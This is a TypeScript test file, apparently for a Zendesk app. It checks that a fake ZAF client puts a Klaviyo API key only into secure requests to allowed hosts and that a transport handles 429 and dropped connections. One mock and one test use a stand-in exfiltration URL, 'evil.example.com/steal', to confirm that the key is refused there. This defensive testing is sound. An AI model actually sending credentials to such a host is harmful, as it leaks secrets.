import { http, HttpResponse } from 'msw';
import { setupServer } from 'msw/node';
import { createFakeZafClient, TEST_KLAVIYO_KEY } from '../../support/fakeZafClient';
import { ZafTransport } from '../../../src/zaf/transport';
import { KLAVIYO_AUTHORIZATION } from '../../../src/zaf/klaviyo-auth';
import { TransportError } from '../../../src/transport';

const seen: Array<{ url: string; authorization: string | null }> = [];
const server = setupServer(
  http.get('https://a.klaviyo.com/api/accounts', ({ request }) => {
    seen.push({ url: request.url, authorization: request.headers.get('authorization') });
    return HttpResponse.json({ data: [] });
  }),
  http.get('https://evil.example.com/steal', ({ request }) => {
    seen.push({ url: request.url, authorization: request.headers.get('authorization') });
    return HttpResponse.json({});
  }),
  http.get('https://a.klaviyo.com/api/broken', () => HttpResponse.error()),
  http.get('https://a.klaviyo.com/api/limited', () =>
    HttpResponse.json(
      { errors: [{ code: 'throttled' }] },
      { status: 429, headers: { 'Retry-After': '7' } },
    ),
  ),
);

beforeAll(() => server.listen({ onUnhandledRequest: 'error' }));
afterEach(() => {
  server.resetHandlers();
  seen.length = 0;
});
afterAll(() => server.close());

describe('the ZAF client test double behaves like the Zendesk proxy', () => {
  it('substitutes the secure key into the header of a secure request to a whitelisted host', async () => {
    const client = createFakeZafClient();
    await client.request({
      url: 'https://a.klaviyo.com/api/accounts',
      secure: true,
      headers: { Authorization: KLAVIYO_AUTHORIZATION },
    });
    expect(seen[0]?.authorization).toBe(`Klaviyo-API-Key ${TEST_KLAVIYO_KEY}`);
  });

  it('sends the placeholder literally when the request is not secure', async () => {
    const client = createFakeZafClient();
    await client.request({
      url: 'https://a.klaviyo.com/api/accounts',
      headers: { Authorization: KLAVIYO_AUTHORIZATION },
    });
    expect(seen[0]?.authorization).toBe(KLAVIYO_AUTHORIZATION);
  });

  it('refuses a secure request to a host outside the domain whitelist and sends nothing', async () => {
    const client = createFakeZafClient();
    await expect(
      client.request({
        url: 'https://evil.example.com/steal',
        secure: true,
        headers: { Authorization: KLAVIYO_AUTHORIZATION },
      }),
    ).rejects.toMatchObject({ status: 403 });
    expect(seen).toHaveLength(0);
  });

  it('refuses to put the header-scoped key into a URL', async () => {
    const client = createFakeZafClient();
    await expect(
      client.request({
        url: 'https://a.klaviyo.com/api/accounts?key={{setting.klaviyo_api_key}}',
        secure: true,
      }),
    ).rejects.toMatchObject({ status: 403 });
    expect(seen).toHaveLength(0);
  });
});

describe('ZafTransport', () => {
  it('returns error statuses with their headers instead of throwing', async () => {
    const transport = new ZafTransport(createFakeZafClient());
    const response = await transport.send({
      method: 'GET',
      url: 'https://a.klaviyo.com/api/limited',
      secure: true,
    });
    expect(response.status).toBe(429);
    expect(response.headers['retry-after']).toBe('7');
  });

  it('turns a dropped connection into a TransportError', async () => {
    const transport = new ZafTransport(createFakeZafClient());
    await expect(
      transport.send({ method: 'GET', url: 'https://a.klaviyo.com/api/broken', secure: true }),
    ).rejects.toBeInstanceOf(TransportError);
  });
});
